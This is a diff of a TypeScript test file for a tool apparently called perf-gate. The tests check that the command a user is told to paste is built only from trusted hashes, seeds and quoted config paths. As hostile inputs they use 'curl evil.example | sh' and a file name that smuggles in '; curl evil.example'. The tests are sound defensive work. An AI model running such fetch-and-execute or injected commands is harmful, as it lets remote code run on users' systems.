@@ -863,3 +863,18 @@ test('the command to paste is made of hashes and the seed, never of what the res
   const { results } = await trust({ ...of(sha), command: 'curl evil.example | sh' }, found(), asked, inputs())
   assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --config-from base --seed 1`)
 })
+
+test('it names the config of a service, one in another place, and the scenarios that the workflow picks', async () => {
+  const said = async (file: string, more: Partial<Inputs>) => {
+    const results = of(sha)
+    const { command } = (await trust({ ...results, config: { ...results.config, file } }, found(), asked, inputs(more)))
+      .results
+    return command.replace(/ --base .*/, '')
+  }
+  assert.equal(await said('.github/perf-gate.yml', {}), 'perf-gate run')
+  const shop = { directory: './services/my shop/' }
+  assert.equal(await said('perf-gate.yml', shop), "perf-gate run --config 'services/my shop/perf-gate.yml'")
+  assert.equal(await said('x.yml; curl evil.example', shop), 'perf-gate run')
+  const picked = { directory: 'shop', config: 'ci/pg.yml', scenarios: ['home'] }
+  assert.equal(await said('ci/pg.yml', picked), 'perf-gate run --config shop/ci/pg.yml --scenario home')
+})
